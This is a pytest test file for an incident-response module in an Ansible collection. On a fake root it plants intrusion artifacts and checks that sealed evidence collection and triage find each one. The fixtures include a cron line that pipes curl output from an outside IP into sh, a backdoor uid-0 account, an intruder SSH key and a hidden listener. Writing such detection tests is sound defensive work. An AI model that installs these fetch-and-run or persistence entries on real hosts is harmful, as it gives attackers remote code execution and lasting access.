"""A suspected break-in, on a fake root: the evidence is collected read-only and sealed
(module_utils/rackwright_security.py ``collect``), a changed or added file breaks the seal, and the triage
names each planted item with its evidence file, against the trusted baseline (``binaries``,
``persistence_files``) and what the inventory expects. The whole incident runs on the lab
(tests/lab/test_incident_security_lab.py)."""

import json
import os

import pytest

from ansible_collections.rackwright.infra.plugins.filter.rackwright_security import (
    baseline_extend,
    security_findings,
)
from ansible_collections.rackwright.infra.plugins.module_utils import rackwright_security as security

# Two real ed25519 public keys (generated for this test; no private key is kept).
KNOWN = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBvXx8uQ0aGqqJm3v0eXQk6bF1l0m1ZpQnB4m3r0xR0a admin@example"
INTRUDER = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDc0bPqO9wV1nJ1oR2z8yX3kS6tH7uE8wM9vN0aB1cD2 mallory@evil"
# /proc/net/tcp's header and a listening socket on 0.0.0.0:31337 (0x7A69), inode 4242; tcp6: ::1 port 631.
TCP = (
    "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n"
    "   1: 00000000:0016 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 4243 1 "
    "0000000000000000 100 0 0 10 0\n"
)
LISTENER = (
    "   0: 00000000:7A69 00000000:0000 0A 00000000:00000000 00:00000000 00000000     0        0 4242 1 "
    "0000000000000000 100 0 0 10 0\n"
)
TCP6 = (
    "  sl  local_address                         remote_address                        st tx_queue rx_queue "
    "tr "
    "tm->when retrnsmt   uid  timeout inode\n"
    "   0: 00000000000000000000000001000000:0277 00000000000000000000000000000000:0000 0A 00000000:00000000 "
    "00:00000000 00000000     0        0 5151 1 0000000000000000 100 0 0 10 0\n"
)


def write(root, path, text, mode=0o644):
    target = root / path.lstrip("/")
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(text)
    target.chmod(mode)


def not_installed(argv):
    return 127, f"{argv[0]}: not installed on this host\n"


@pytest.fixture
def host(tmp_path):
    """A fake root as a clean host looks: root and a service account, the admin key, two binaries, the
    distribution's cron file, sshd listening on 22."""
    root = tmp_path / "root"
    write(
        root, "/etc/passwd", "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n"
    )
    write(root, "/etc/shadow", "root:!:19000:0:99999:7:::\nwww-data:*:19000:0:99999:7:::\n", 0o600)
    write(root, "/root/.ssh/authorized_keys", KNOWN + "\n", 0o600)
    write(root, "/usr/bin/ls", "\x7fELF the real ls", 0o755)
    write(root, "/usr/sbin/sshd", "\x7fELF the real sshd", 0o755)
    write(root, "/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || e2scrub_all\n")
    write(root, "/proc/net/tcp", TCP)
    write(root, "/proc/net/tcp6", TCP6)
    write(root, "/proc/1/status", "Name:\tsshd\nPPid:\t0\nUid:\t0\t0\t0\t0\n")
    write(root, "/proc/1/cmdline", "sshd: /usr/sbin/sshd -D\0")
    (root / "proc/1/exe").symlink_to("/usr/sbin/sshd")
    (root / "proc/1/fd").mkdir()
    (root / "proc/1/fd/3").symlink_to("socket:[4243]")
    return root


def plant(root):
    """What the lab test plants on a VM: a uid-0 account, an unknown key, a changed binary, a cron entry, and
    a listener whose executable was deleted."""
    with open(root / "etc/passwd", "a") as passwd:
        passwd.write("toor:x:0:0::/home/toor:/bin/bash\n")
    with open(root / "root/.ssh/authorized_keys", "a") as keys:
        keys.write(INTRUDER + "\n")
    write(root, "/usr/bin/ls", "\x7fELF a trojaned ls", 0o755)
    write(root, "/etc/cron.d/sync", "* * * * * root /usr/bin/curl -s http://198.51.100.7/x | sh\n")
    write(root, "/proc/77/status", "Name:\tkworker\nPPid:\t1\nUid:\t0\t0\t0\t0\n")
    write(root, "/proc/77/cmdline", "[kworker/0:2]\0")
    (root / "proc/77/exe").symlink_to("/tmp/.x/kworker (deleted)")
    (root / "proc/77/fd").mkdir()
    (root / "proc/77/fd/4").symlink_to("socket:[4242]")
    write(root, "/proc/net/tcp", TCP + LISTENER)


def collected(root, tmp_path, name="bundle"):
    bundle = tmp_path / name
    bundle.mkdir()
    log = security.collect(str(bundle), not_installed, root=str(root))
    return bundle, log


def trusted(root):
    return {"binaries": security.binaries(str(root)), "files": security.persistence_files(str(root))}


EXPECT = {"known_keys": [KNOWN], "ports": [22]}


def test_collection_writes_every_piece_in_order_of_volatility_and_seals_it(host, tmp_path):
    bundle, log = collected(host, tmp_path)
    files = [row["file"] for row in log]
    assert files[:2] == ["01-processes.json", "02-sockets.json"] and files[-1] == "13-journal.txt"
    assert [f[:2] for f in files] == sorted(f[:2] for f in files)  # numbered in the order they were read
    who = {row["file"]: row for row in log}
    assert who["04-last.txt"]["rc"] == 127  # a missing tool is said, not hidden
    assert "last: not installed" in (bundle / "04-last.txt").read_text()
    assert (
        who["13-auth.log"]["rc"] == 2 and (bundle / "13-auth.log").read_text() == "not present on this host\n"
    )
    shadow = (bundle / "06-shadow-status.txt").read_text()
    assert shadow == "root locked expires:never\nwww-data no password expires:never\n"  # no hashes copied
    assert security.verify(str(bundle)) == []
    listed = [line.split("  ")[1] for line in (bundle / "SHA256SUMS").read_text().splitlines()]
    assert listed == sorted(set(os.listdir(bundle)) - {"SHA256SUMS"}) and "acquisition.json" in listed


def test_a_changed_missing_or_added_file_breaks_the_seal(host, tmp_path):
    bundle = collected(host, tmp_path)[0]
    with open(bundle / "06-passwd.txt", "a") as passwd:
        passwd.write("edited:x:0:0::/:/bin/sh\n")
    (bundle / "13-journal.txt").unlink()
    (bundle / "extra.txt").write_text("slipped in\n")
    assert security.verify(str(bundle)) == [
        "06-passwd.txt does not match its sha256",
        "13-journal.txt is listed but missing",
        "extra.txt is not in SHA256SUMS",
    ]
    with pytest.raises(security.EvidenceError, match="does not verify: 06-passwd.txt does not match"):
        security.read_bundle(str(bundle))


def test_a_clean_host_against_its_baseline_has_no_findings(host, tmp_path):
    baseline = trusted(host)
    bundle = collected(host, tmp_path)[0]
    assert security_findings(security.read_bundle(str(bundle)), baseline, EXPECT) == []


def test_every_planted_item_is_found_with_its_evidence_file(host, tmp_path):
    baseline = trusted(host)
    plant(host)
    bundle = collected(host, tmp_path)[0]
    found = security_findings(security.read_bundle(str(bundle)), baseline, EXPECT)
    named = {(f["kind"], f["item"], f["evidence"]) for f in found}
    assert named == {
        ("uid-0 account", "toor", "06-passwd.txt"),
        ("unknown key", "root: " + security.key_fingerprint(INTRUDER)[1], "07-authorized_keys.json"),
        ("modified binary", "/usr/bin/ls", "12-binaries.json"),
        ("persistence", "/etc/cron.d/sync", "08-cron.json"),
        ("deleted binary", "pid 77 /tmp/.x/kworker", "01-processes.json"),
        ("listener", "tcp/31337", "02-sockets.json"),
    }
    by_kind = {f["kind"]: f for f in found}
    assert by_kind["listener"]["detail"] == (
        "/tmp/.x/kworker (pid 77) listens on 0.0.0.0:31337, not a port this host serves"
    )
    assert "mallory@evil" in by_kind["unknown key"]["detail"]
    assert by_kind["modified binary"]["detail"] == "/usr/bin/ls differs from the baseline (sha256, size)"
    assert found[0]["severity"] == "critical" and security.status(found) == "critical"
    assert security.accounts_to_lock(found, keep=["root"]) == ["toor"]
    report = security.report_markdown({"host": "web1", "status": "critical", "details": {"findings": found}})
    assert "**critical** uid-0 account `toor`" in report and "(evidence: `06-passwd.txt`)" in report
    assert "re-run with `-e confirm_contain=web1`" in report


def test_a_persistence_file_the_baseline_holds_must_still_read_the_same(host, tmp_path):
    baseline = trusted(host)
    with open(host / "etc/cron.d/e2scrub_all", "a") as cron:
        cron.write("@reboot root /var/tmp/.k\n")
    bundle = collected(host, tmp_path)[0]
    [found] = security_findings(security.read_bundle(str(bundle)), baseline, EXPECT)
    assert (found["kind"], found["item"], found["severity"]) == (
        "persistence",
        "/etc/cron.d/e2scrub_all",
        "critical",
    )
    assert found["detail"].startswith("cron changed since the baseline")


def test_without_a_baseline_it_says_so_and_asks_the_package_database(host, tmp_path):
    bundle = collected(host, tmp_path)[0]
    evidence = security.read_bundle(str(bundle))
    evidence["12-dpkg-verify.txt"] = "??5?????? c /etc/ssh/sshd_config\n??5??????   /usr/bin/ls\n"
    found = security_findings(evidence, None, EXPECT)
    assert [(f["severity"], f["kind"], f["item"]) for f in found if "binar" in f["kind"]] == [
        ("critical", "modified binary", "/usr/bin/ls"),  # the conffile is no binary
        ("unknown", "binaries", "no trusted baseline"),
    ]


def test_known_files_loopback_listeners_and_port_ranges_are_no_findings(host, tmp_path):
    baseline = trusted(host)
    plant(host)
    write(host, "/etc/systemd/system/lab-console.service", "[Service]\nExecStart=/bin/true\n")
    bundle = collected(host, tmp_path)[0]
    evidence = security.read_bundle(str(bundle))
    expect = dict(
        EXPECT,
        ports=["22", "31000-32000"],
        known_files=["/etc/cron.d/sync", "/etc/systemd/system/lab-console.service"],
    )
    kinds = {f["kind"] for f in security_findings(evidence, baseline, expect)}
    assert "listener" not in kinds and "persistence" not in kinds


def test_the_baseline_takes_in_only_the_files_of_packages_rackwright_installed(host):
    old = trusted(host)
    write(host, "/usr/bin/ls", "\x7fELF changed behind rackwright's back", 0o755)
    write(host, "/usr/bin/mdadm", "\x7fELF mdadm", 0o755)
    write(host, "/etc/cron.d/mdadm", "57 0 * * 0 root /usr/share/mdadm/checkarray --cron --all\n")
    new = trusted(host)
    merged = baseline_extend(old, new, ["/usr/bin/mdadm", "/etc/cron.d/mdadm", "/usr/share/doc/mdadm"])
    paths = {entry["path"]: entry for entry in merged["binaries"]}
    assert (
        paths["/usr/bin/mdadm"]["sha256"]
        == {e["path"]: e for e in new["binaries"]}["/usr/bin/mdadm"]["sha256"]
    )
    assert (
        paths["/usr/bin/ls"] == {e["path"]: e for e in old["binaries"]}["/usr/bin/ls"]
    )  # still the trusted one
    assert merged["files"]["/etc/cron.d/mdadm"].startswith("57 0")


def test_bad_input_is_refused_with_what_was_expected(tmp_path):
    with pytest.raises(Exception, match="expected the evidence bundle"):
        security_findings("not a bundle")
    with pytest.raises(security.EvidenceError, match="is not a directory"):
        security.read_bundle(str(tmp_path / "absent"))
    (tmp_path / "empty").mkdir()
    with pytest.raises(security.EvidenceError, match="SHA256SUMS is missing"):
        security.read_bundle(str(tmp_path / "empty"))
    assert security.key_fingerprint("no key here") is None
    assert json.loads(json.dumps(security.sockets({"tcp": "header only\n"}))) == []


def test_keys_are_read_where_sshd_looks_for_them(host, tmp_path):
    write(host, "/etc/ssh/keys/root", INTRUDER + "\n", 0o600)  # a hidden AuthorizedKeysFile an intruder set

    def sshd(argv):
        if argv == ["sshd", "-T"]:
            return 0, "port 22\nauthorizedkeysfile .ssh/authorized_keys /etc/ssh/keys/%u\n"
        return not_installed(argv)

    bundle = tmp_path / "bundle"
    bundle.mkdir()
    security.collect(str(bundle), sshd, root=str(host))
    keys = json.loads((bundle / "07-authorized_keys.json").read_text())
    assert sorted(keys) == ["/etc/ssh/keys/root", "/root/.ssh/authorized_keys"]
    found = security_findings(security.read_bundle(str(bundle)), None, EXPECT)
    assert [f["detail"].split(" lets in")[0] for f in found if f["kind"] == "unknown key"] == [
        "/etc/ssh/keys/root"
    ]
    assert security.key_files("authorizedkeysfile none\n") == security.DEFAULT_KEY_FILES
